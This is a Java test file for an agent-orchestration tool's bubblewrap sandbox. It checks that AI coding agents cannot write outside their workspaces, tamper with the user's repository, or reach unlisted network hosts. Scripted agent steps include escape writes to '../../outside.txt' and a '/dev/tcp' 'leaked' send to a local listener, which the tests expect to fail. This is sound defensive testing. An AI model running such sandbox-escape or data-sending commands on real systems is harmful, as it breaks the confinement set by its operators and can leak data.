package dev.troupe.cli;

import static dev.troupe.testing.MessagesApiStandIn.bash;
import static dev.troupe.testing.MessagesApiStandIn.text;
import static dev.troupe.testing.MessagesApiStandIn.write;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.troupe.agent.AgentProcess;
import dev.troupe.team.rules.RunContext;
import dev.troupe.testing.FakeAgent;
import dev.troupe.testing.Journals;
import dev.troupe.testing.MessagesApiStandIn;
import dev.troupe.testing.TestRepo;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code workspace.sandbox: true} end to end: agents run under bubblewrap, write their own workspace only, and the
 * run goes on; the real Claude Code CLI works inside and reaches the API; without bwrap the run is refused.
 * Workspaces are kept ({@code keep: true}) so that what an agent planted in another's would still be there to see.
 */
class SandboxedRunTest {

    @TempDir
    Path tmp;

    private TestRepo repo;

    private Path goal(String agent, String team, String tasks) throws IOException {
        repo = TestRepo.create(tmp.resolve("repo"), Map.of("README.md", "the user's\n"));
        Path file = tmp.resolve("goal.yaml");
        Files.writeString(file, "repo: " + repo.dir() + "\n" + team
                + "agent:\n" + agent + "  isolate-config: true\n"
                + "limits: {task-timeout: 2m}\n"
                + "workspace:\n  keep: true\n  sandbox: true\n"
                + "tasks:\n" + tasks);
        return file;
    }

    private List<JsonNode> events() throws IOException {
        try (Stream<Path> runs = Files.list(repo.dir().resolve(".troupe/runs"))) {
            return Journals.read(runs.findFirst().orElseThrow().resolve("events.jsonl"));
        }
    }

    private String integrationBranch() throws IOException {
        return Journals.ofType(events(), "run-started").get(0).path("integrationBranch").asText();
    }

    /**
     * Each agent waits for the other's workspace to exist, then tries to write outside its own, and over the file
     * that tells git (troupe's own git commands included) where the repository is.
     */
    private String intruder(String task) {
        String other = "../worker-$((3-TROUPE_WORKER))";
        String report = task + "-tried.txt";
        return "  - id: " + task + "\n    prompt: |\n"
                + "      run until [ -d " + other + " ]; do sleep 0.1; done\n"
                + "      write " + task + ".txt from " + task + "\n"
                + "      run git status --short && git diff --stat\n"
                + "      try-write ../../outside.txt " + report + "\n"
                + "      try-write " + repo.dir().resolve("README.md") + " " + report + "\n"
                + "      try-write " + repo.dir().resolve("planted-by-" + task + ".txt") + " " + report + "\n"
                + "      try-write " + other + "/planted-by-" + task + ".txt " + report + "\n"
                + "      try-write .git " + report + "\n";
    }

    @Test
    void agentsThatWriteOutsideTheirWorkspaceFailToAndTheRunGoesOn() throws IOException {
        Path goal = goal("  command: " + FakeAgent.yamlCommand() + "\n", "team: {size: 2, stagger: 0ms}\n", "");
        Files.writeString(goal, Files.readString(goal) + intruder("a") + intruder("b"));

        Invocation run = Invocation.troupe("run", goal.toString());

        assertEquals(0, run.exitCode(), run.err());
        String branch = integrationBranch();
        assertEquals(List.of("a", "b"), repo.mergedTasks(branch).stream().sorted().toList());
        for (String task : List.of("a", "b")) {
            assertEquals("from " + task, repo.show(branch, task + ".txt"));
            List<String> tried = repo.show(branch, task + "-tried.txt").lines().toList();
            assertEquals(5, tried.size(), tried.toString());
            assertTrue(tried.stream().allMatch(line -> line.endsWith(" refused")), "every write outside failed: " + tried);
        }
        Path workspaces = repo.workspaces().resolve("workspaces");
        assertFalse(Files.exists(repo.workspaces().resolve("outside.txt")), "../../ of a workspace");
        assertEquals("the user's\n", Files.readString(repo.dir().resolve("README.md")));
        assertEquals("", repo.status(), "the user's checkout is as it was");
        for (String worker : List.of("worker-1", "worker-2")) {
            try (Stream<Path> files = Files.list(workspaces.resolve(worker))) {
                List<String> planted = files.map(p -> p.getFileName().toString()).filter(n -> n.startsWith("planted")).toList();
                assertEquals(List.of(), planted, "nothing planted in " + worker);
            }
        }
        assertTrue(repo.tree(branch).keySet().stream().noneMatch(path -> path.contains("planted")), repo.tree(branch).toString());
    }

    @Test
    void anAgentInstalledUnderTmpAndCalledThroughALinkRunsInsideTheSandbox() throws IOException {
        // The sandbox's /tmp is its own: what the agent needs from the host's /tmp must be shown to it.
        Path install = Files.createDirectories(tmp.resolve("install/package"));
        Path script = Files.copy(FakeAgent.SCRIPT, install.resolve("agent.sh"));
        script.toFile().setExecutable(true);
        Path bin = Files.createDirectories(tmp.resolve("install/bin"));
        Files.createSymbolicLink(bin.resolve("agent"), Path.of("../package/agent.sh"));
        assertTrue(tmp.toRealPath().startsWith("/tmp"), "the test needs its files under /tmp: " + tmp);
        Path goal = goal("  command: [\"" + bin.resolve("agent") + "\"]\n", "", """
                  - id: linked
                    prompt: write linked.txt it ran
                """);

        Invocation run = Invocation.troupe("run", goal.toString());

        assertEquals(0, run.exitCode(), run.out() + run.err());
        assertEquals("it ran", repo.show(integrationBranch(), "linked.txt"));
    }

    private static String installedClaude() {
        String installed = System.getProperty("troupe.claude");
        assertTrue(installed != null && Files.isExecutable(Path.of(installed)), "installed by the build: " + installed);
        return installed;
    }

    /** The agent section for the real CLI against {@code baseUrl}. */
    private static String realCli(String baseUrl, String permissions) {
        return "  command: [\"" + installedClaude() + "\"]\n"
                + permissions
                + "  env:\n"
                + "    ANTHROPIC_BASE_URL: \"" + baseUrl + "\"\n"
                + "    CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: \"1\"\n"
                + "    DISABLE_AUTOUPDATER: \"1\"\n";
    }

    /** The text of the tool result the CLI sent back in {@code request}. */
    private static String lastToolResult(MessagesApiStandIn.Request request) {
        JsonNode messages = request.body().path("messages");
        return messages.get(messages.size() - 1).path("content").get(0).path("content").asText();
    }

    @Test
    void theRealClaudeCodeCliReachesItsApiAndNothingElseAndWritesOnlyItsWorkspaceInsideTheSandbox() throws IOException {
        try (MessagesApiStandIn api = MessagesApiStandIn.start();
                ServerSocket unlisted = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            MessagesApiStandIn.Script script = request -> switch (request.turn()) {
                case 0 -> write(request.workingDirectory() + "/real.txt", "written inside the sandbox\n");
                case 1 -> bash("echo planted > ../../outside.txt");
                case 2 -> bash("echo leaked > /dev/tcp/127.0.0.1/" + unlisted.getLocalPort());
                default -> text("Done.");
            };
            Path goal = goal(realCli(api.baseUrl("sandboxed", script), "  permission-mode: acceptEdits\n"
                    + "  allowed-tools: [Read, Write, Edit, Bash]\n"), "team: {size: 1, stagger: 0ms}\n", """
                      - id: real
                        prompt: Create real.txt
                    """);

            Invocation run = Invocation.troupe("run", goal.toString());

            assertEquals(0, run.exitCode(), run.err() + run.out());
            assertEquals("written inside the sandbox", repo.show(integrationBranch(), "real.txt"));
            List<MessagesApiStandIn.Request> requests = api.requests("sandboxed");
            assertEquals(4, requests.size(), "the CLI reached the API on 127.0.0.1 from inside the sandbox");
            assertTrue(lastToolResult(requests.get(2)).contains("Read-only file system"),
                    "the Bash tool's write outside failed: " + lastToolResult(requests.get(2)));
            assertTrue(lastToolResult(requests.get(3)).contains("Connection refused"),
                    "the Bash tool's connection to a server not on the list failed: " + lastToolResult(requests.get(3)));
            assertFalse(Files.exists(repo.workspaces().resolve("outside.txt")));
            unlisted.setSoTimeout(200);
            assertThrows(SocketTimeoutException.class, unlisted::accept, "no connection reached the unlisted server");
        }
    }

    @Test
    void setupReachesTheNetworkWhileTheAgentCannot() throws Exception {
        try (ServerSocket registry = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            String reach = "echo installing > /dev/tcp/127.0.0.1/" + registry.getLocalPort();
            Path goal = goal("  command: " + FakeAgent.yamlCommand() + "\n", "", """
                      - id: a
                        prompt: |
                          run (%s) 2>/dev/null && echo reached > net.txt || echo refused > net.txt
                    """.formatted(reach));
            Files.writeString(goal, Files.readString(goal).replace("  sandbox: true\n",
                    "  sandbox: true\n  setup: \"" + reach + "\"\n"));
            java.util.concurrent.CompletableFuture<String> installed = java.util.concurrent.CompletableFuture.supplyAsync(() -> {
                try (java.net.Socket setup = registry.accept()) {
                    return new String(setup.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });

            Invocation run = Invocation.troupe("run", goal.toString());

            assertEquals(0, run.exitCode(), run.err() + run.out());
            assertEquals("installing\n", installed.get(10, TimeUnit.SECONDS), "setup reached the registry");
            assertEquals("refused", repo.show(integrationBranch(), "net.txt"), "the agent did not");
            registry.setSoTimeout(200);
            assertThrows(SocketTimeoutException.class, registry::accept, "one connection only: setup's");
        }
    }

    @Test
    void bypassPermissionsRunsInsideTheConfinedSandboxAsRootToo() throws IOException {
        try (MessagesApiStandIn api = MessagesApiStandIn.start()) {
            MessagesApiStandIn.Script script = request -> switch (request.turn()) {
                case 0 -> bash("id -u > uid.txt && touch ran-unasked.txt");
                default -> text("Done.");
            };
            Path goal = goal(realCli(api.baseUrl("bypass", script), "  permission-mode: bypassPermissions\n"),
                    "team: {size: 1, stagger: 0ms}\n", """
                      - id: unasked
                        prompt: Run id
                    """);

            Invocation run = Invocation.troupe("run", goal.toString());

            assertEquals(0, run.exitCode(), run.err() + run.out());
            String branch = integrationBranch();
            assertEquals(new com.sun.security.auth.module.UnixSystem().getUid() + "", repo.show(branch, "uid.txt"),
                    "the Bash tool ran without asking, as troupe's user");
            assertTrue(repo.tree(branch).containsKey("ran-unasked.txt"));
        }
    }

    @Test
    void bypassPermissionsOutsideTheConfinedSandboxIsRefusedAtItsKeyAndNothingIsMade() throws IOException {
        Path goal = goal("  command: " + FakeAgent.yamlCommand() + "\n  permission-mode: bypassPermissions\n", "", """
                  - id: a
                    prompt: write a.txt a
                """);
        Files.writeString(goal, Files.readString(goal).replace("  sandbox: true\n", "  sandbox: {network: any}\n"));

        Invocation run = Invocation.troupe("run", goal.toString());

        assertEquals(ExitCodes.BAD_INPUT, run.exitCode(), run.err());
        int line = Files.readAllLines(goal).indexOf("  permission-mode: bypassPermissions") + 1;
        assertTrue(run.err().contains(goal + ":" + line + ":3: permission-mode bypassPermissions lets agents run any"
                + " command unasked; troupe allows it only in the sandbox with its network confined"), run.err());
        assertFalse(Files.exists(repo.dir().resolve(".troupe")), "nothing made");
    }

    /** troupe in a JVM of its own; {@code path} replaces PATH when given. */
    private Process troupe(Path said, Optional<Path> path, String... args) throws IOException {
        Path java = Path.of(System.getProperty("java.home"), "bin", "java");
        List<String> command = new ArrayList<>(List.of(java.toString(), "-cp", System.getProperty("java.class.path"),
                Main.class.getName()));
        command.addAll(List.of(args));
        ProcessBuilder builder = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(said.toFile());
        path.ifPresent(dirs -> builder.environment().put("PATH", dirs.toString()));
        return builder.start();
    }

    /** A PATH with what troupe's checks need (git, and bash for the fake agent), and no bwrap. */
    private Path pathWithoutBwrap() throws IOException {
        return pathWith("git", "bash");
    }

    private Path pathWith(String... tools) throws IOException {
        Path bin = Files.createDirectories(tmp.resolve("bin"));
        for (String tool : tools) {
            Files.createSymbolicLink(bin.resolve(tool), Path.of("/usr/bin", tool));
        }
        return bin;
    }

    /** A run of a one-task goal with {@code path} as PATH: refused with exit 2 at the sandbox key, and nothing made. */
    private void refusedAtTheSandboxKey(Path path, String why) throws Exception {
        Path goal = goal("  command: " + FakeAgent.yamlCommand() + "\n", "", """
                  - id: a
                    prompt: write a.txt a
                """);
        Path said = tmp.resolve("said.txt");

        Process troupe = troupe(said, Optional.of(path), "run", goal.toString());

        assertTrue(troupe.waitFor(60, TimeUnit.SECONDS));
        assertEquals(ExitCodes.BAD_INPUT, troupe.exitValue(), Files.readString(said));
        int line = Files.readAllLines(goal).indexOf("  sandbox: true") + 1;
        assertTrue(Files.readString(said).contains(goal + ":" + line + ":3: " + why), Files.readString(said));
        assertFalse(Files.exists(repo.dir().resolve(".troupe")), "nothing made");
        assertEquals(List.of(), repo.branches("troupe/**"));
    }

    @Test
    void withoutSocatARunWithTheNetworkConfinedIsRefusedAtItsKey() throws Exception {
        refusedAtTheSandboxKey(pathWith("git", "bash", "bwrap"), "a sandbox with a confined network needs socat, and"
                + " there is no socat on PATH; install it (apt-get install socat) or set sandbox: {network: any}");
    }

    private static final String NO_BWRAP =
            "sandbox: true needs bubblewrap, and there is no bwrap on PATH; install it (apt-get install bubblewrap) or set sandbox: false";

    @Test
    void withoutBubblewrapASandboxedRunIsRefusedAtItsKeyAndNothingIsMade() throws Exception {
        refusedAtTheSandboxKey(pathWithoutBwrap(), NO_BWRAP);
    }

    @Test
    void resumeRefusesASandboxedRunWhenBubblewrapIsGoneAndLeavesItToResume() throws Exception {
        Path goal = goal("  command: " + FakeAgent.yamlCommand() + "\n", "", """
                  - id: a
                    prompt: hang
                """);
        Process first = troupe(tmp.resolve("first.txt"), Optional.empty(), "run", goal.toString());
        String run;
        try {
            Path runs = repo.dir().resolve(".troupe/runs");
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
            while (!Files.isDirectory(runs) || !Files.exists(onlyRun(runs).resolve("events.jsonl"))
                    || !Files.readString(onlyRun(runs).resolve("events.jsonl")).contains("\"agent-started\"")) {
                assertTrue(System.nanoTime() < deadline, "the agent started: " + Files.readString(tmp.resolve("first.txt")));
                Thread.sleep(50);
            }
            run = onlyRun(runs).getFileName().toString();
        } finally {
            first.destroyForcibly();
            assertTrue(first.waitFor(30, TimeUnit.SECONDS));
        }
        Path said = tmp.resolve("said.txt");
        try {
            Process resume = troupe(said, Optional.of(pathWithoutBwrap()), "resume", "-C", repo.dir().toString());

            assertTrue(resume.waitFor(60, TimeUnit.SECONDS));
            assertEquals(ExitCodes.BAD_INPUT, resume.exitValue(), Files.readString(said));
            assertTrue(Files.readString(said).contains(NO_BWRAP), Files.readString(said));
            assertFalse(Files.readString(onlyRun(repo.dir().resolve(".troupe/runs")).resolve("events.jsonl"))
                    .contains("run-finished"), "the run is still there to resume");
        } finally {
            AgentProcess.killAllWith(RunContext.RUN_MARKER + "=" + run);
        }
    }

    private static Path onlyRun(Path runs) throws IOException {
        try (Stream<Path> listed = Files.list(runs)) {
            return listed.filter(Files::isDirectory).findFirst().orElseThrow();
        }
    }
}
